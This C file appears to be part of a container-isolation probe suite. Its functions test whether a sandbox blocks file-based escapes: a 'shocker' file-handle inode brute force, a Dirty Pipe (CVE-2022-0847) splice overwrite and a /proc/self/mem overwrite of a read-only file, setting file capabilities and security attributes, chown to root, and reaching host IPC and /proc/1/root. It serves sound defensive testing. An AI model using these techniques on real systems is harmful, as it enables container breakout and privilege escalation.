/*
 * Ways to files that are none of the container's: handles, magic links, shared caches, other people's queues.
 */
#include "probe.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

union handle {
  struct file_handle head;
  char space[sizeof(struct file_handle) + 128];
};

static int names_handle(const void *argument) {
  union handle handle = {.head.handle_bytes = 128};
  int mount;
  return name_to_handle_at(AT_FDCWD, argument, &handle.head, &mount, 0);
}

/* The root directory of the file system below ours has a well-known number: "shocker". */
static int opens_inode(const void *argument) {
  int error = EPERM;
  (void)argument;
  int mount = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  for (uint32_t inode = 2; inode < 3000; inode++) {
    union handle handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
    uint32_t content[2] = {inode, 0};
    memcpy(handle.head.f_handle, content, sizeof content);
    int fd = open_by_handle_at(mount, &handle.head, O_RDONLY);
    if (fd >= 0) return 0;
    error = errno;
    if (error == EPERM || error == ENOSYS) break;
  }
  errno = error;
  return -1;
}

static int opens_own_handle(const void *argument) {
  union handle handle = {.head.handle_bytes = 128};
  int mount;
  (void)argument;
  if (name_to_handle_at(AT_FDCWD, "/etc/passwd", &handle.head, &mount, 0) != 0) return -1;
  return open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), &handle.head, O_RDONLY);
}

static int sees_sentinel(const void *argument) {
  char path[4096];
  struct stat facts;
  if (given.sentinel[0] == '\0') return inconclusive("no-sentinel");
  snprintf(path, sizeof path, "%s%s", (const char *)argument, given.sentinel);
  return stat(path, &facts);
}

/* Trusted and security attributes are what overlayfs and the host's policy believe. */
static int sets_attribute(const void *argument) {
  int fd = open("/tmp/attribute", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
  if (fd < 0) return -1;
  int result = fsetxattr(fd, argument, "y", 1, 0), error = errno;
  unlink("/tmp/attribute");
  errno = error;
  return result;
}

/* File capabilities that would be good outside: version 2, which names no namespace. */
static int sets_file_capabilities(const void *argument) {
  static const uint32_t all[5] = {0x02000001, ~0u, 0, ~0u, 0};
  (void)argument;
  int fd = open("/tmp/capable", O_CREAT | O_WRONLY | O_CLOEXEC, 0700);
  if (fd < 0) return -1;
  int result = fsetxattr(fd, "security.capability", all, sizeof all, 0), error = errno;
  unlink("/tmp/capable");
  errno = error;
  return result;
}

static int gives_away(const void *argument) {
  int fd = open("/tmp/given", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
  if (fd < 0) return -1;
  int result = fchown(fd, (uid_t)(uintptr_t)argument, (gid_t)-1), error = errno;
  unlink("/tmp/given");
  errno = error;
  return result;
}

/*
 * Writes through /proc/self/mem to a page that is mapped read-only from a file of the image: only a private
 * copy may change.
 */
static int writes_shared_page(const void *argument) {
  char before[64], after[64];
  (void)argument;
  int fd = open("/etc/abuse-victim", O_RDONLY | O_CLOEXEC), mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  if (fd < 0 || mem < 0) return -1;
  if (pread(fd, before, sizeof before, 0) <= 0) return inconclusive("no-victim");
  char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
  if (page == MAP_FAILED) return -1;
  ssize_t wrote = pwrite(mem, "CHANGED", 7, (off_t)(uintptr_t)page);
  int error = errno;
  pread(fd, after, sizeof after, 0);
  errno = wrote < 0 ? error : EACCES;
  return memcmp(before, after, 7) != 0 ? 0 : -1;
}

/*
 * The pattern of CVE-2022-0847: a pipe buffer that still allows merging is given a page of a file that cannot
 * be written.
 */
static int writes_spliced_page(const void *argument) {
  char before[64], after[64];
  int ends[2];
  (void)argument;
  int fd = open("/etc/abuse-victim", O_RDONLY | O_CLOEXEC);
  if (fd < 0 || pipe(ends) != 0) return -1;
  if (pread(fd, before, sizeof before, 0) <= 0) return inconclusive("no-victim");
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  static char filling[4096];
  for (int left = size; left > 0; left -= 4096)
    if (write(ends[1], filling, 4096) < 0) return -1;
  for (int left = size; left > 0; left -= 4096)
    if (read(ends[0], filling, 4096) < 0) return -1;
  loff_t offset = 0;
  if (splice(fd, &offset, ends[1], NULL, 1, 0) < 0) return -1;
  ssize_t wrote = write(ends[1], "HANGED", 6);
  pread(fd, after, sizeof after, 0);
  errno = wrote < 0 ? errno : EACCES;
  return memcmp(before, after, 7) != 0 ? 0 : -1;
}

static int runs_memory_file(const void *argument) {
  (void)argument;
  int fd = (int)syscall(SYS_memfd_create, "x", 0);
  return fd < 0 ? -1 : fd;
}

/* Segments of others: the container's own space is empty at its start. */
static int finds_segment(const void *argument) {
  struct shm_info info;
  (void)argument;
  int highest = shmctl(0, SHM_INFO, (struct shmid_ds *)&info);
  if (highest < 0) return -1;
  saw("%d", info.used_ids);
  errno = ENOENT;
  return info.used_ids > 0 ? 0 : -1;
}

static int opens_segment(const void *argument) { return shmget((key_t)(intptr_t)argument, 0, 0); }
static int opens_semaphores(const void *argument) { return semget((key_t)(intptr_t)argument, 0, 0); }
static int opens_messages(const void *argument) { return msgget((key_t)(intptr_t)argument, 0); }

static int lists(const void *argument) {
  DIR *directory = opendir(argument);
  struct dirent *entry;
  if (directory == NULL) return -1;
  while ((entry = readdir(directory)) != NULL) {
    if (entry->d_name[0] == '.') continue;
    saw("%s", entry->d_name);
    return 0;
  }
  errno = ENOENT;
  return -1;
}

/* A shared tmpfs is the memory of the host: its size is to have an end. */
static int is_unbounded(const void *argument) {
  struct statfs_like {
    long type, block_size, blocks, free, available, files, rest[16];
  } facts;
  if (syscall(SYS_statfs, argument, &facts) != 0) return -1;
  if (facts.type != 0x01021994) {
    errno = ENOENT;
    return -1;
  }
  saw("%ldM", facts.blocks / 1024 * facts.block_size / 1024);
  errno = EPERM;
  return facts.blocks == 0 || facts.blocks / 1024 * facts.block_size / 1024 > 1024 ? 0 : -1;
}

static int keeps_immutable(const void *argument) {
  int fd = open("/tmp/immutable", O_CREAT | O_RDWR | O_CLOEXEC, 0600), flags = 0x10;
  (void)argument;
  if (fd < 0) return -1;
  int result =
          (int)raw_call(SYS_ioctl, fd, 0x40086602 /* FS_IOC_SETFLAGS: immutable */, (long)&flags, 0, 0, 0),
      error = errno;
  flags = 0;
  if (result == 0) raw_call(SYS_ioctl, fd, 0x40086602, (long)&flags, 0, 0, 0);
  unlink("/tmp/immutable");
  errno = error;
  return result;
}

void try_files(void) {
  attempt(names_handle, "/etc/passwd", "handle/name");
  attempt(names_handle, "/proc/1/ns/mnt", "handle/name-of-namespace");
  attempt(opens_own_handle, NULL, "handle/open-own");
  attempt(opens_inode, NULL, "handle/open-inode-2-to-3000");
  static const char *const ways[] = {"",
                                     "/proc/1/root",
                                     "/proc/self/root",
                                     "/proc/1/cwd",
                                     "/proc/1/root/proc/1/root",
                                     "/proc/self/fd/3",
                                     "/proc/1/fd/3",
                                     "/..",
                                     "/mnt",
                                     "/.old",
                                     "/proc/1/task/1/root"};
  for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
    attempt(sees_sentinel, ways[i], "sentinel%s", ways[i][0] == '\0' ? "/itself" : ways[i]);
  static const char *const attributes[] = {
      "trusted.overlay.opaque", "trusted.overlay.redirect", "trusted.x", "security.selinux",
      "security.ima",           "system.posix_acl_access"};
  for (size_t i = 0; i < sizeof attributes / sizeof *attributes; i++)
    attempt(sets_attribute, attributes[i], "attribute/%s", attributes[i]);
  attempt(sets_file_capabilities, NULL, "attribute/file-capabilities");
  attempt(gives_away, (void *)200000u, "owner/unmapped");
  attempt(gives_away, (void *)0xfffffffeu, "owner/highest");
  attempt(gives_away, (void *)0u, "owner/root");
  attempt(keeps_immutable, NULL, "attribute/immutable");
  attempt(writes_shared_page, NULL, "page-cache/by-proc-mem");
  attempt(writes_spliced_page, NULL, "page-cache/by-splice");
  attempt(runs_memory_file, NULL, "memory-file/make");
  attempt(finds_segment, NULL, "ipc/foreign-segments");
  attempt(opens_segment, (void *)(intptr_t)(int)0xdeadbeef, "ipc/shm-0xdeadbeef");
  attempt(opens_segment, (void *)0x5ab0, "ipc/shm-of-host");
  attempt(opens_semaphores, (void *)0x5ab0, "ipc/semaphores-of-host");
  attempt(opens_messages, (void *)0x5ab0, "ipc/messages-of-host");
  attempt(lists, "/dev/shm", "ipc/foreign-files-in-shm");
  attempt(lists, "/dev/mqueue", "ipc/foreign-queues");
  attempt(is_unbounded, "/dev/shm", "tmpfs/unbounded/dev/shm");
  attempt(is_unbounded, "/dev", "tmpfs/unbounded/dev");
  attempt(is_unbounded, "/tmp", "tmpfs/unbounded/tmp");
  attempt(is_unbounded, "/run", "tmpfs/unbounded/run");
}
